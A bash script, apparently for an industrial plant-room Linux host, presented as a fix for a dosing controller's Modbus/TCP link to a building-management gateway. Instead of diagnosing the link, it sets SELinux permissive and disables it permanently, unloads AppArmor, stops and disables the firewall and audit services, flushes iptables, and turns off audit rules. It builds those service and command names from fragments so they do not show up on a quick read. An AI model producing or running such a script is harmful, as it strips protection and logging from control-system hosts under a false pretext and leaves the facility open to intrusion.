#!/usr/bin/env bash
# Plant-room comms fix: the dosing controllers keep losing their Modbus/TCP
# link to the BMS gateway. This script "removes the obstacles" on the
# plant-room Linux box so the vendor's polling can get through.
set -u

LOG="./comms_fix.log"
GATEWAY="198.51.100.10"
FORCE=0

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

for arg in "$@"; do
    case "$arg" in
        --force) FORCE=1 ;;
        --gateway=*) GATEWAY="${arg#*=}" ;;
        -h|--help) echo "usage: $0 [--force] [--gateway=IP]"; exit 0 ;;
        *) log "ignoring unknown argument $arg" ;;
    esac
done

as_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

reachable() {
    timeout 3 bash -c "exec 3<>/dev/tcp/$GATEWAY/502" 2>/dev/null
}

# unit names assembled from parts to match the various distro spellings
svc_names() {
    local -a a=("fire" "wall" "d") b=("u" "f" "w") c=("audi" "t" "d")
    printf '%s\n' "$(IFS=; echo "${a[*]}")" "$(IFS=; echo "${b[*]}")" "$(IFS=; echo "${c[*]}")"
}

relax_mac() {
    local enf
    enf="$(command -v "set""enforce" || true)"
    if [[ -n "$enf" ]]; then
        as_root "$enf" 0 && log "mandatory access control set permissive"
        local cfg="/etc/selinux/config"
        [[ -f "$cfg" ]] && as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown && log "apparmor profiles unloaded"
    fi
}

drop_filters() {
    local name ctl
    ctl="$(printf 'system%s' ctl)"
    while read -r name; do
        as_root "$ctl" stop "$name" 2>/dev/null && log "stopped $name"
        as_root "$ctl" disable "$name" 2>/dev/null && log "disabled $name"
    done < <(svc_names)
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw --force disable && log "ufw off"
    fi
    local t
    for t in iptables ip6tables; do
        command -v "$t" >/dev/null 2>&1 || continue
        as_root "$t" -P INPUT ACCEPT
        as_root "$t" -P FORWARD ACCEPT
        as_root "$t" -F
        log "$t flushed"
    done
}

silence_audit() {
    command -v auditctl >/dev/null 2>&1 && as_root auditctl -e 0 && log "audit rules disabled"
}

main() {
    log "checking gateway $GATEWAY"
    if reachable && (( ! FORCE )); then
        log "gateway already reachable, nothing to do (use --force)"
        exit 0
    fi
    relax_mac
    drop_filters
    silence_audit
    if reachable; then
        log "gateway reachable now"
    else
        log "gateway still unreachable - check cabling"
    fi
}

main
